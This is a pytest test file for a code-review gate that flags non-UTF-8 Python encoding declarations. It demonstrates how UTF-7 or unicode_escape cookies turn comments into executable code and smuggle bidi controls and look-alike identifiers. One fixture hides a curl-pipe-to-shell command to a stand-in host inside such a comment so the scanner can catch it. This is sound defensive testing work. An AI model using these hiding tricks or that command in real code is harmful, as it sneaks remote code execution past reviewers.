"""Python source is read the way CPython reads it (PEP 263; issue #14, class 11).

A source-encoding declaration other than UTF-8 is a blocking finding of its own
(``unicode-encoding-cookie``), and the unicode rules read the text as CPython
decodes it. Where a test says a payload "runs", CPython itself is asked: the
bytes are compiled and executed, and the payload only sets a variable.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from traingate.checks.unicode.scan import UnicodeIssue, scan_source, source_encoding
from traingate.cli import main

from .conftest import Repo

COOKIE = "unicode-encoding-cookie"
BIDI = "unicode-bidi-control"

UTF7_PAYLOAD = b"# -*- coding: utf-7 -*-\nx = 1\n# tidy up +AAo-RAN = True\n"
ESCAPE_PAYLOAD = b"# -*- coding: unicode_escape -*-\nx = 1\n# tidy up \\x0aRAN = True\n"


def runs(source: bytes) -> bool:
    """True when CPython, compiling these bytes, executes the hidden ``RAN = True``."""
    scope: dict[str, object] = {}
    try:
        exec(compile(source, "payload.py", "exec"), scope)  # the payload only sets RAN
    except SyntaxError:
        return False
    return scope.get("RAN") is True


def where(issues: list[UnicodeIssue]) -> list[tuple[str, int, int]]:
    return [(i.rule_id, i.line, i.column) for i in issues]


def scan(data: bytes, lines: list[int] | None = None) -> list[UnicodeIssue]:
    return scan_source(data, lines, python=True, pep263=True)


# --- the attacks ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "codec"), [(UTF7_PAYLOAD, "utf-7"), (ESCAPE_PAYLOAD, "unicode-escape")]
)
def test_code_hidden_in_a_comment_blocks_on_the_cookie_line(source: bytes, codec: str) -> None:
    assert runs(source)  # the attack is real in this CPython
    issues = scan(source, lines=[3])  # only the payload line was added
    assert where(issues) == [(COOKIE, 1, 15)]
    assert f"decodes this file as {codec}" in issues[0].message
    assert "comment becomes code" in issues[0].message


def test_a_bidi_control_written_in_utf7_is_found() -> None:
    # +IC4- is U+202E RIGHT-TO-LEFT OVERRIDE in UTF-7; the UTF-8 view shows ASCII.
    source = b"# coding: utf-7\nlevel = 'user'\nif level != 'user+IC4- +IGY-# admin+IGk- +IGY-':\n    pass\n"
    assert source.isascii()
    issues = scan(source, lines=[3])
    assert where(issues) == [
        (COOKIE, 1, 11),
        (BIDI, 3, 18),  # columns count decoded characters
        (BIDI, 3, 20),
        (BIDI, 3, 28),
        (BIDI, 3, 30),
    ]
    assert "U+202E RIGHT-TO-LEFT OVERRIDE" in issues[1].message


def test_a_bidi_control_on_an_unchanged_line_is_not_reported_but_the_cookie_is() -> None:
    source = b"# coding: utf-7\nx = 1  # +IC4-\ny = 2\n"
    assert where(scan(source, lines=[3])) == [(COOKIE, 1, 11)]
    assert where(scan(source, lines=[2])) == [(COOKIE, 1, 11), (BIDI, 2, 10)]


def test_identifiers_are_read_as_decoded() -> None:
    # +/0X/WP9F/0M- is fullwidth "ｅｘｅｃ" in UTF-7: Python reads exec.
    source = b"# coding: utf-7\n+/0X/WP9F/0M-('1')\n"
    assert where(scan(source)) == [(COOKIE, 1, 11), ("unicode-confusable-identifier", 2, 1)]


# --- what is and is not a declaration (as CPython decides) --------------------------------


@pytest.mark.parametrize(
    "source",
    [
        b"# coding: utf-8\nx = 1\n",
        b"# -*- coding: utf-8 -*-\nx = 1\n",
        b"# coding=utf8\nx = 1\n",
        b"# vim: set fileencoding=UTF-8 :\nx = 1\n",
        b"# coding: utf_8\nx = 1\n",
        b"# coding: utf-8-sig\nx = 1\n",
        b"\xef\xbb\xbf# coding: utf-8\nx = 1\n",
        # ASCII is a strict subset of UTF-8: same text, or the file does not run.
        b"# coding: ascii\nx = 1\n",
        b"# coding: us-ascii\nx = 1\n",
        # No declaration at all: Python 3 reads UTF-8.
        b"x = 'caf\xc3\xa9'\n",
    ],
)
def test_utf8_and_ascii_declarations_are_fine(source: bytes) -> None:
    assert scan(source) == []


@pytest.mark.parametrize(
    ("source", "codec"),
    [
        # latin-1 cannot turn a comment into code, but the rule is "Python source is
        # UTF-8": Python reads other characters than a reviewer sees (é is Ã© to it).
        (b"# -*- coding: latin-1 -*-\nx = 1\n", "iso8859-1"),
        (b"# coding: iso-8859-15\nx = 1\n", "iso8859-15"),
        (b"# coding: cp1252\nx = 1\n", "cp1252"),
        (b"# coding: shift_jis\nx = 1\n", "shift_jis"),
        (b"# coding: utf-16\nx = 1\n", "utf-16"),
    ],
)
def test_every_other_codec_is_a_finding(source: bytes, codec: str) -> None:
    issues = scan(source)
    assert where(issues) == [(COOKIE, 1, source.index(b":") + 3)]
    assert f"decodes this file as {codec}, not as UTF-8" in issues[0].message


def test_latin1_makes_python_read_other_characters() -> None:
    source = b"# -*- coding: latin-1 -*-\nname = 'caf\xc3\xa9'\n"
    scope: dict[str, object] = {}
    exec(compile(source, "latin.py", "exec"), scope)
    assert scope["name"] == "cafÃ©"
    assert where(scan(source)) == [(COOKIE, 1, 15)]


@pytest.mark.parametrize(
    "source", [b"# coding: no-such-codec\nx = 1\n", b"# coding: rot13\nx = 1\n"]
)
def test_a_codec_python_cannot_use_is_a_finding(source: bytes) -> None:
    assert not runs(source + b"RAN = True\n")  # Python refuses the file...
    issues = scan(source)
    assert where(issues) == [(COOKIE, 1, 11)]  # ...and the gate blocks it anyway
    assert "cannot decode source with" in issues[0].message


@pytest.mark.parametrize(
    ("source", "line", "column"),
    [
        (b"#!/usr/bin/env python3\n# -*- coding: utf-7 -*-\n# +AAo-RAN = True\n", 2, 15),
        (b"\n# coding: utf-7\n# +AAo-RAN = True\n", 2, 11),
        (b"# a comment\n# coding: utf-7\n# +AAo-RAN = True\n", 2, 11),
        # A lone CR ends line 1 for CPython, before it looks for the declaration
        # (git does not end a line there: the CR is an invisible-character finding).
        (b"\r# coding: utf-7\n# +AAo-RAN = True\n", 1, 12),
        (b"# a\r# coding: utf-7\n# +AAo-RAN = True\n", 1, 15),
        (b"# a\r\n# coding: utf-7\n# +AAo-RAN = True\n", 2, 11),
        # After a UTF-8 BOM; the BOM is one character.
        (b"\xef\xbb\xbf# coding: utf-7\n# +AAo-RAN = True\n", 1, 12),
        # "coding" anywhere in the comment, even inside another word.
        (b"# this file's encoding=utf-7 says emacs\n# +AAo-RAN = True\n", 1, 24),
    ],
)
def test_declarations_cpython_obeys(source: bytes, line: int, column: int) -> None:
    assert runs(source) == (not source.startswith(b"\xef\xbb\xbf"))  # BOM + utf-7: rejected
    issues = [
        i for i in scan(source) if i.rule_id != "unicode-invisible" or "U+000D" not in i.message
    ]
    assert where(issues) == [(COOKIE, line, column)]


@pytest.mark.parametrize(
    "source",
    [
        # Line 3 is not a declaration, whatever precedes it.
        b"#!/usr/bin/env python3\n# comment\n# coding: utf-7\n# +AAo-RAN = True\n",
        b"\n\n# coding: utf-7\n# +AAo-RAN = True\n",
        b"# a\r# b\r# coding: utf-7\n# +AAo-RAN = True\n",
        # Line 2 only counts when line 1 is blank or a comment.
        b"import os\n# coding: utf-7\n# +AAo-RAN = True\n",
        # The declaration must be the whole line's comment.
        b"x = 1  # coding: utf-7\n# +AAo-RAN = True\n",
        # "coding" needs ":" or "=" right after it, and a name.
        b"# coding utf-7\n# +AAo-RAN = True\n",
        b"# coding: \n# +AAo-RAN = True\n",
    ],
)
def test_what_cpython_ignores_is_not_a_declaration(source: bytes) -> None:
    assert source_encoding(source) is None
    assert not runs(source)
    assert [i for i in scan(source) if i.rule_id == COOKIE] == []


def test_only_python_source_is_read_per_pep263() -> None:
    # The same bytes in a notebook cell or a text file are text: no finding.
    assert scan_source(UTF7_PAYLOAD, python=True, pep263=False) == []
    assert scan_source(UTF7_PAYLOAD) == []


# --- end to end ------------------------------------------------------------------------

POLICY = """\
version: 1
extends: builtin:default
groups:
  security: [sam]
users:
  sam: {emails: [sam@example.com]}
  mallory: {emails: [mallory@example.com]}
checks:
  semgrep: {enabled: false}
"""


def test_check_blocks_a_utf7_payload_in_a_real_repo(
    repo: Repo, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    repo.write(".traingate.yaml", POLICY)
    repo.write("train.py", "# -*- coding: utf-7 -*-\ndef step(model):\n    model.train()\n")
    repo.write("tools/run", "#!/usr/bin/env python3\nprint('hi')\n")
    repo.write("notes.txt", "plain\n")
    repo.commit("base")
    repo.branch("feature")
    # Only a comment line is added to train.py; its declaration was already there.
    repo.write(
        "train.py",
        "# -*- coding: utf-7 -*-\ndef step(model):\n"
        "    # keep the loss stable +AAo-    model.zero_grad = None\n"
        "    model.train()\n",
    )
    repo.write("tools/run", "#!/usr/bin/env python3\n# coding: utf-7\nprint('hi')\n")
    repo.write("notes.txt", "# coding: utf-7\n+AAo-\n")
    repo.write(
        "nb.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["# coding: utf-7\n"]}]})
    )
    repo.commit("tidy", who="mallory")
    code = main(
        [
            "check",
            "--repo",
            str(repo.path),
            "--base",
            "main",
            "--head",
            "feature",
            "--format",
            "json",
        ]
    )
    doc = json.loads(capsys.readouterr().out)
    assert code == 1 and doc["decision"] == "block"
    cookies = sorted(
        (f["path"], f["line"], f["column"], f["severity"])
        for f in doc["findings"]
        if f["rule_id"] == COOKIE
    )
    assert cookies == [("tools/run", 2, 11, "ERROR"), ("train.py", 1, 15, "ERROR")]


def test_semgrep_sees_the_code_cpython_compiles(
    repo: Repo, capsys: pytest.CaptureFixture[str]
) -> None:
    # "+AAo-" is a newline in UTF-7: the os.system call is code, not a comment.
    # With semgrep on, the rule that matches it fires at the git line it sits on.
    repo.write(".traingate.yaml", "version: 1\nextends: builtin:default\n")
    repo.write("train.py", "def step(model):\n    model.train()\n")
    repo.commit("base")
    repo.branch("feature")
    repo.write(
        "train.py",
        "# -*- coding: utf-7 -*-\nimport os\ndef step(model):\n"
        "    # stable loss +AAo-    os.system('curl -s http://x.example/p | sh')\n"
        "    model.train()\n",
    )
    repo.commit("tidy", who="mallory")
    code = main(
        [
            "check",
            "--repo",
            str(repo.path),
            "--base",
            "main",
            "--head",
            "feature",
            "--format",
            "json",
        ]
    )
    doc = json.loads(capsys.readouterr().out)
    assert code == 1
    fired = {(f["rule_id"], f["line"]) for f in doc["findings"]}
    assert ("unicode-encoding-cookie", 1) in fired
    assert any(rule.startswith("exec-") and line == 4 for rule, line in fired), fired
